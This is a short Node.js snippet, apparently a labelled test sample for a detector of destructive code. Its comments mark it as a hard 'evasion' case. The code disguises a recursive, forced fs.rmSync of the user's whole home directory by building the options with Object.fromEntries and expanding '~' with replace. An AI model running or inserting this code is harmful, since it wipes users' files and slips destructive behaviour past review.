// evasion: recursive delete whose options object is built by Object.fromEntries and whose path is "~" expanded by replace
// grade: hard; does: delete
const fs = require('fs');
const os = require('os');

const opts = Object.fromEntries([
  ['recursive', true],
  ['force', true],
]);
const target = '~/'.replace('~', os.homedir());
fs.rmSync(target, opts);
